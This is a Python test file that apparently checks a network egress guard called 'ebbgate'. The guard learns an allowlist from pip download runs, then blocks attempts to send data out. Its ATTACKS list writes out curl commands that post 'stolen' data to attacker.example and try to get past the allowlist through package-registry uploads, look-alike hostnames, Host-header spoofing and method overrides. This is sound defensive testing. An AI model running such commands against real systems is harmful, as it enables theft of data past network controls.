"""A policy learned from a few real installs is enough for others, and not enough for who has other plans."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.legit.test_real_installs import guarded, pip_python, project

__all__ = ["project"]
SEEN = (("six",), ("idna", "certifi"), ("attrs",), ("toml",))
UNSEEN = (("packaging", "pluggy"), ("click",), ("tomli==2.0.1",))
# Through hosts that are allowed, and through others. None of it reaches the world.
ATTACKS = (
    ["curl", "-sS", "-d", "stolen", "https://attacker.example/"],
    ["curl", "-sS", "-d", "stolen", "https://upload.pypi.org/legacy/"],
    ["curl", "-sS", "-d", "stolen", "https://pypi.org/legacy/"],
    ["curl", "-sS", "-X", "PUT", "-d", "stolen", "https://files.pythonhosted.org/packages/x"],
    ["curl", "-sS", "-H", "X-HTTP-Method-Override: PUT", "https://pypi.org/simple/six/"],
    ["curl", "-sS", "http://pypi.org/simple/"],
    ["curl", "-sS", "https://stolen.pypi.org.attacker.example/"],
    ["curl", "-sSk", "-H", "Host: attacker.example", "https://pypi.org/simple/six/"],
    ["curl", "-sS", "https://registry.npmjs.org/six"],
)


def pip(packages: tuple[str, ...]) -> list[str]:
    options = ["--no-deps", "--no-cache-dir", "--disable-pip-version-check", "--quiet"]
    return [pip_python(), "-m", "pip", "download", *options, "-d", "D", *packages]


def learn(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ebbgate", "learn", *map(str, arguments)], capture_output=True, text=True, check=True
    )


@pytest.fixture
def policy(project: Path) -> Path:
    """Learned from a few runs in audit mode."""
    runs = [project / f"audit-{number}" for number in range(len(SEEN))]
    for report, packages in zip(runs, SEEN, strict=True):
        done = guarded(project, ["--mode", "audit", "--report", str(report), "--quiet"], pip(packages))
        assert done.returncode == 0, done.stderr[-2000:]
    file = project / "ci.yml"
    told = learn(*runs, "--into", file)
    assert "learned into" in told.stderr
    written = file.read_bytes()
    assert "nothing to learn" in learn(*reversed(runs), "--into", file).stderr
    assert file.read_bytes() == written
    return file


def test_what_was_never_seen_installs_and_attacks_are_denied(project: Path, policy: Path) -> None:
    document = yaml.safe_load(policy.read_text())
    assert document == {"version": 1, "mode": "enforce", "use": ["python"]}
    assert "# explains 2 hosts, seen in 4 of 4 runs" in policy.read_text()
    for packages in UNSEEN:
        done = guarded(project, ["--policy", str(policy)], pip(packages))
        assert done.returncode == 0, done.stderr[-3000:]
        assert "ebbgate: clean · enforce" in done.stderr
        assert len(list((project / "D").glob(f"{packages[0].partition('=')[0]}*"))) == 1
    report = project / "attacks"
    each = "\n".join(f"{' '.join(map(repr, one))} -o out-{number} -w '%{{http_code}}\\n'" for number, one in enumerate(ATTACKS))
    done = guarded(project, ["--policy", str(policy), "--report", str(report)], ["sh", "-c", each])
    assert done.stdout.split() == ["403"] * len(ATTACKS), (done.stdout, done.stderr[-3000:])
    assert done.returncode == 90
    replayed = [sys.executable, "-m", "ebbgate", "replay", str(report), "--policy", str(policy), "--changed"]
    again = subprocess.run(replayed, capture_output=True, text=True, check=False)
    assert (again.returncode, again.stdout.count("\n")) == (90, 1), again.stdout
    wanted = learn(report, "--into", policy)
    assert "nothing to learn" in wanted.stderr
    assert wanted.stderr.count("it was blocked; if it is wanted, write the entry") >= len(ATTACKS) - 1
